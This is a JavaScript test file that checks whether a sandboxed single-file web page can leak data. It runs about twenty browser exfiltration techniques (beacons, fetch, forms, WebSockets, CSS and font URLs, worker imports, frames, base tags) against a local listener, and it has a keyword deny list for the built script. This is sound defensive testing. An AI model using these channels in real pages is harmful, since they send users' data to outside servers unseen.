// Every way out of the single file that we know is tried from inside, and none gets out. The same
// attempts from a page without a policy do, so the test would see it.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { dist, serveHost } from "./support.js";
import { inEveryEngine, untilSeen } from "./windows.js";

/** Each gets the address of somebody who must hear nothing. They run in the browser, one after another. */
const ATTEMPTS = {
  fetch: (to) => fetch(to, { mode: "no-cors" }),
  "fetch, keepalive": (to) => fetch(to, { mode: "no-cors", keepalive: true, method: "POST", body: "cells" }),
  XMLHttpRequest: (to) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open("POST", to);
      request.send("cells");
    }),
  beacon: (to) => navigator.sendBeacon(to, "cells"),
  image: (to) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = to;
    }),
  form: (to) => {
    const frame = document.createElement("iframe");
    frame.name = `target${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, { action: to, method: "post", target: frame.name });
    document.body.append(frame, form);
    form.submit();
  },
  WebSocket: (to) =>
    new Promise((resolve) => {
      const socket = new WebSocket(to.replace("http", "ws"));
      socket.onclose = socket.onerror = resolve;
    }),
  EventSource: (to) =>
    new Promise((resolve) => {
      const source = new EventSource(to);
      source.onerror = () => resolve(source.close());
    }),
  "import in a worker": (to) =>
    new Promise((resolve) => {
      const code = `try { importScripts(${JSON.stringify(to)}); } catch {} postMessage(1);`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = worker.onerror = resolve;
    }),
  "fetch in a worker": (to) =>
    new Promise((resolve) => {
      const code = `fetch(${JSON.stringify(to)}, { mode: "no-cors" }).catch(() => {}).then(() => postMessage(1));`;
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
      worker.onmessage = worker.onerror = resolve;
    }),
  "worker from there": (to) => {
    new Worker(to);
  },
  script: (to) =>
    new Promise((resolve) => {
      const script = document.createElement("script");
      script.onload = script.onerror = resolve;
      script.src = to;
      document.body.append(script);
    }),
  "dynamic import": (to) => import(to),
  "style sheet": (to) =>
    new Promise((resolve) => {
      const link = document.createElement("link");
      link.rel = "stylesheet";
      link.onload = link.onerror = resolve;
      link.href = to;
      document.head.append(link);
    }),
  "address in CSS": (to) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`#out { background: url(${JSON.stringify(to)}); width: 9px; height: 9px }`);
    document.adoptedStyleSheets = [sheet];
    const box = document.createElement("div");
    box.id = "out";
    document.body.append(box);
  },
  font: (to) => new FontFace("out", `url(${to})`).load(),
  frame: (to) => {
    const frame = document.createElement("iframe");
    frame.src = to;
    document.body.append(frame);
  },
  object: (to) => {
    const object = document.createElement("object");
    object.data = to;
    document.body.append(object);
  },
  video: (to) => {
    const video = document.createElement("video");
    video.preload = "auto";
    video.src = to;
    document.body.append(video);
  },
  // What a press of a key or button opens is the reader's own doing, which no policy forbids; a
  // driver's call counts as a press for five seconds.
  "window.open": (to) => new Promise((resolve) => setTimeout(() => resolve(window.open(to)), 5500)),
  base: (to) => {
    const base = document.createElement("base");
    base.href = to;
    document.head.append(base);
    const image = new Image();
    image.src = "relative";
  },
};

/** What other pages of the same server may not do either, and ours must not be the exception. */
const REFUSED_BY_BROWSER = ["worker from there", "window.open"];

/** A function for the browser that tries this, and waits a moment for what cannot be awaited. */
const trying = (attempt) =>
  new Function(
    "to",
    `const late = new Promise((resolve) => setTimeout(resolve, 7000));
    const work = (async () => (${attempt})(to))().catch(() => {});
    return Promise.race([work, late]).then(() => new Promise((resolve) => setTimeout(() => resolve(true), 200)));`,
  );

/** Somebody outside who answers everyone and notes who came. */
const listen = async () => {
  const heard = new Set();
  const note = ({ url }) => heard.add(decodeURIComponent(url.split("/")[1]));
  const server = createServer((request, response) => {
    note(request);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/plain" }).end("");
  });
  server.on("upgrade", (request, socket) => {
    note(request);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  server.unref();
  return { heard, origin: `http://127.0.0.1:${server.address().port}`, close: () => server.closeAllConnections() };
};

inEveryEngine((newWindow, name) => {
  let outside = null;
  let host = null;
  before(async () => {
    outside = await listen();
    host = await serveHost({ "/open.html": "<!doctype html><title>no policy</title><body>" });
  });
  after(() => {
    outside.close();
    host.close();
  });

  /** Who was heard of all who tried from this page. */
  const heardFrom = async (address) => {
    outside.heard.clear();
    const window = await newWindow();
    await window.open(address);
    await untilSeen(window, [], () => document.body !== null);
    for (const [what, attempt] of Object.entries(ATTEMPTS)) {
      await window.look([], trying(attempt), `${outside.origin}/${encodeURIComponent(what)}/`);
    }
    await window.close();
    return [...outside.heard].sort();
  };

  test("from a page without a policy they get out", async (context) => {
    const heard = await heardFrom(`${host.origin}/open.html`);
    const missing = Object.keys(ATTEMPTS).filter((what) => !heard.includes(what));
    context.diagnostic(`${name} itself refuses: ${missing.join(", ")}`);
    assert.deepEqual(missing.filter((what) => !REFUSED_BY_BROWSER.includes(what)), []);
  });

  test("from the single file none gets out", async () => {
    assert.deepEqual(await heardFrom(`${host.origin}/kept/kept.html`), []);
  });
});

test("the program is given nothing that could send, store or navigate", async () => {
  const script = await readFile(join(dist, "kept.js"), "utf8");
  // A program in WebAssembly can do only what its script hands to it.
  for (const word of [
    "sendBeacon", "XMLHttpRequest", "WebSocket", "EventSource", "RTCPeerConnection", "importScripts", "window.open",
    "localStorage", "sessionStorage", "indexedDB", "caches", "cookie", "serviceWorker", "pushState", "replaceState",
    "location.assign", "location.replace", "location =", "eval(", "new Function(", "document.write",
  ]) {
    assert.ok(!script.includes(word), `kept.js names ${word}`);
  }
  // The two loaders of the glue (of which we use neither), the programs, and what attributes name.
  assert.equal(script.split(/\bfetch\(/).length - 1, 4);
});
